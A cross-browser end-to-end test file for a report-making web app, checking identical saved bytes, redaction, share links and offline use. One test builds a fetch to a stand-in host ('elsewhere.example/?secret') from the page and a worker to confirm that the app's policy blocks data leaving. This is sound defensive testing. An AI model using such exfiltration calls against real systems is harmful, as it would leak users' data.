// The main path in three engines: Chromium, Firefox and WebKitGTK. What people get must not depend on
// the browser, so what each of them saves is held against the others, byte for byte.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { pathToFileURL } from 'node:url';

import { ENGINES } from './engines.mjs';
import { BROWSERS_OWN, DIST, ESTATE, SAVED, serve, until, wholeEstate } from './harness.mjs';

const FILES = await wholeEstate();
const PATHS = FILES.map(({ name }) => join(ESTATE, name));
const BUNDLE = pathToFileURL(join(DIST, 'linchpin.html')).href;

/** What Firefox asks for of itself: its settings, and whether there is a network. */
const OWN = [BROWSERS_OWN, /^(https?:\/\/)?[a-z.-]+\.(mozilla\.(com|org|net)|firefox\.com)[:/]/];
/** What left the browser for anywhere but the site, and is not its own. */
const left = (server) => server.foreign().filter((url) => !OWN.some((own) => own.test(url)));

/** What each engine saved and which link it made, by engine and place: compared at the end. */
const taken = new Map();

const text = (tab, selector) =>
  tab.run((selector) => document.querySelector(selector)?.innerText ?? '', selector);
const runs = (tab) => until(() => tab.run(() => Boolean(window.wasmBindings)), 'the app runs');
/** The verdict, which takes its time where several browsers share a processor. */
const headline = (tab, wanted) =>
  until(
    async () => {
      const found = await text(tab, '#verdict h1');
      return wanted.test(found) && found;
    },
    `the headline matches ${wanted}`,
    60_000,
  );

/** Clicks on what `selector` finds once it is there, stands still and nothing lies over it. */
async function click(tab, selector) {
  let before;
  await until(async () => {
    const now = await tab.run((selector) => {
      const element = document.querySelector(selector);
      if (!element || element.disabled) return null;
      const place = () => {
        const { x, y, width, height } = element.getBoundingClientRect();
        const over = document.elementFromPoint(x + width / 2, y + height / 2);
        return element.contains(over) ? `${x} ${y} ${width} ${height}` : null;
      };
      const seen = place();
      if (seen) return seen;
      // Only then: Firefox moves what is in the middle by a pixel, there and back, each time it is asked again.
      element.scrollIntoView({ block: 'center', behavior: 'instant' });
      return place();
    }, selector);
    const still = now !== null && now === before;
    before = now;
    return still;
  }, `${selector} can be clicked`);
  await tab.click(selector);
}

/** Drops the exports on the page. */
const drop = (tab) =>
  tab.run((files) => {
    const dataTransfer = new DataTransfer();
    for (const { name, text } of files) {
      dataTransfer.items.add(new File([text], name, { type: 'application/json' }));
    }
    for (const type of ['dragenter', 'dragover', 'drop']) {
      const event = new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer });
      document.body.dispatchEvent(event);
    }
  }, FILES);

/** Chooses the exports in the page's file dialog. */
const pick = (tab) => tab.pick('.zone input[type=file][multiple]:not([webkitdirectory])', PATHS);

/** From the verdict to everything that can be taken away; gives the link and the files. */
async function walk(tab) {
  const verdict = await headline(tab, /tarnholtprod can be taken over/);
  await until(async () => (await text(tab, '#blast .totals')) !== '', 'the blast radius');
  assert.match(await text(tab, '#blast .totals'), /43 workloads seen[\s\S]*12 exposed/);
  assert.equal(await text(tab, '#problems'), '');

  await click(tab, '.timeline summary');
  await click(tab, '.timeline .fact');
  const evidence = await until(
    () =>
      tab.run(() => {
        const hit = document.querySelector('.viewer .hit');
        const mark = hit?.querySelector('mark');
        if (!mark) return null;
        const [line, number] = ['code', '.line-number'].map((part) => hit.querySelector(part).textContent);
        return { name: document.querySelector('#viewer-title').textContent, line, number, mark: mark.textContent };
      }),
    'the evidence',
  );
  const file = FILES.find(({ name }) => name === evidence.name);
  const line = file.text.split('\n')[Number(evidence.number) - 1];
  assert.equal(evidence.line.trim(), line.trim(), 'the viewer shows the line of the document');
  assert.ok(evidence.mark !== '' && line.includes(evidence.mark), evidence.mark);
  await click(tab, '.viewer header button');
  await until(() => tab.run(() => !document.querySelector('.viewer')), 'the viewer is gone');

  await click(tab, '#rules summary');
  await click(tab, '#switch-0');
  await until(async () => /1 finding is taken as mended/.test(await text(tab, '.what-if')), 'the what-if');
  assert.doesNotMatch(await text(tab, '#verdict h1'), /tarnholtprod can be/);
  await click(tab, '.what-if button');
  await until(() => tab.run(() => !document.querySelector('.what-if')), 'the what-if is over');
  assert.equal(await text(tab, '#verdict h1'), verdict);

  await click(tab, '.actions button');
  const link = await until(
    () => tab.run(() => document.querySelector('.making a.button')?.href ?? ''),
    'a link',
  );
  // What the page hands to the browser to save: while a file is shorter than that, it is being written.
  await tab.run(() => {
    const make = URL.createObjectURL;
    window.handedOver = 0;
    URL.createObjectURL = (blob) => {
      window.handedOver += blob.size;
      return make.call(URL, blob);
    };
  });
  const formats = await tab.run(() => document.querySelectorAll('.files li').length);
  for (let format = 1; format <= formats; format += 1) {
    await click(tab, `.files li:nth-child(${format}) button:last-child`);
    await until(async () => {
      const saved = await tab.saved();
      const written = saved.reduce((sum, { text }) => sum + Buffer.byteLength(text), 0);
      return saved.length === format && written === (await tab.run(() => window.handedOver));
    }, `file ${format} is saved, and whole`);
  }
  const files = Object.fromEntries((await tab.saved()).map(({ name, text }) => [name, text]));
  assert.deepEqual(Object.keys(files).sort(), SAVED);
  // OCSF requires a time, which is when it was saved.
  const events = files['linchpin-report.ocsf.json'];
  const time = JSON.parse(events)[0].time;
  assert.ok(Math.abs(Date.now() - time) < 600_000, `${time} is now`);
  files['linchpin-report.ocsf.json'] = events.replaceAll(/"time": [0-9]+/g, '"time": 0');
  for (const [name, saved] of Object.entries(files)) {
    assert.doesNotMatch(saved, /tarnholt|c0ffee/i, `${name} is redacted`);
  }
  return { link, files };
}

/** A link as somebody finds it who has nothing but the link. */
async function opens(tab) {
  await headline(tab, /registry-1 can be taken over/);
  assert.match(await text(tab, '.band'), /Somebody shared this report/);
  assert.doesNotMatch(await tab.run(() => document.documentElement.outerHTML), /tarnholt/i);
}

/** Runs a test's steps in an engine, with a server that is its proxy, and ends both. */
async function within(engine, steps) {
  const server = await serve();
  const closing = [() => server.close()];
  try {
    const browser = await engine.start(server);
    closing.unshift(() => browser.close());
    await steps(server, async (address) => {
      const tab = await browser.visit();
      closing.unshift(() => tab.close());
      await tab.go(address);
      await runs(tab);
      return tab;
    });
  } finally {
    for (const close of closing) await close();
  }
}

for (const engine of ENGINES) {
  const { name } = engine;

  test(`in ${name}: exports are dropped and judged, everything is saved, and it works offline`, () =>
    within(engine, async (server, visit) => {
      const tab = await visit(`${server.origin}/`);
      await drop(tab);
      const { link, files } = await walk(tab);
      assert.ok(link.startsWith(`${server.origin}/#v1.`), link.slice(0, 80));
      taken.set(`${name}, the site`, { ...files, link: link.slice(link.indexOf('#')) });

      const other = await visit(link);
      await opens(other);
      assert.deepEqual(await other.errors(), []);

      await until(
        () => tab.run(async () => (await navigator.serviceWorker.getRegistration())?.active?.state === 'activated'),
        'the service worker is there',
      );
      await server.close();
      await tab.go('about:blank');
      await tab.go(`${server.origin}/`);
      await runs(tab);
      await drop(tab);
      await headline(tab, /tarnholtprod can be taken over/);
      await tab.go('about:blank');
      await tab.go(link);
      await opens(tab);
      assert.deepEqual(await tab.errors(), []);
      assert.deepEqual(left(server), []);
    }));

  test(`in ${name}: the one file does the same from a disk, with files from there, and asks nobody`, () =>
    within(engine, async (server, visit) => {
      const tab = await visit(BUNDLE);
      await pick(tab);
      const { link, files } = await walk(tab);
      assert.ok(link.startsWith(`${BUNDLE}#v1.`), link.slice(0, 80));
      taken.set(`${name}, the one file`, { ...files, link: link.slice(link.indexOf('#')) });
      const other = await visit(link);
      await opens(other);
      for (const each of [tab, other]) assert.deepEqual(await each.errors(), []);
      assert.deepEqual(server.own(), []);
      assert.deepEqual(left(server), []);
    }));

  test(`in ${name}: neither the page nor a worker of it can fetch anything from elsewhere`, async () => {
    for (const place of [({ origin }) => `${origin}/`, () => BUNDLE]) {
      await within(engine, async (server, visit) => {
        const tab = await visit(place(server));
        const outcome = await tab.run(async () => {
          const steal = "fetch('http://elsewhere.example/?secret', { mode: 'no-cors' })";
          const text = `${steal}.then(() => postMessage('sent'), () => postMessage('refused'))`;
          const blob = new Blob([text], { type: 'text/javascript' });
          return Promise.all([
            fetch('http://elsewhere.example/?secret', { mode: 'no-cors' }).then(
              () => 'sent',
              () => 'refused',
            ),
            new Promise((resolve) => {
              new Worker(URL.createObjectURL(blob)).onmessage = ({ data }) => resolve(data);
            }),
          ]);
        });
        assert.deepEqual(outcome, ['refused', 'refused']);
        assert.deepEqual(left(server), []);
        // A navigation is no business of the policy's. The server sees it, so it would have seen the rest.
        await tab.run(() => void setTimeout(() => location.assign('http://elsewhere.example/?left')));
        await until(() => left(server).length > 0, 'the proxy has seen it');
        assert.equal(left(server)[0], 'http://elsewhere.example/?left');
      });
    }
  });

  test(`in ${name}: what is dropped before the app is there can be read by it`, () =>
    within(engine, async (server, visit) => {
      const tab = await visit(`${server.origin}/`);
      // The page's own script for the time before, once more.
      await tab.run(() => void (window.earlyAgain = linchpinEarly()));
      await drop(tab);
      const kept = await tab.run(async () => {
        const [{ entries }] = window.earlyAgain.take();
        return Promise.all(entries.map(async (file) => ({ name: file.name, text: await file.text() })));
      });
      assert.deepEqual(kept, FILES);
    }));
}

test('every engine saves the same bytes and makes the same link, on the site and from a disk', () => {
  assert.equal(taken.size, 2 * ENGINES.length, [...taken.keys()].join(', '));
  const [[first, wanted], ...others] = taken;
  for (const [place, found] of others) {
    for (const [name, saved] of Object.entries(wanted)) {
      assert.equal(found[name], saved, `${name}: ${place} and ${first}`);
    }
  }
});
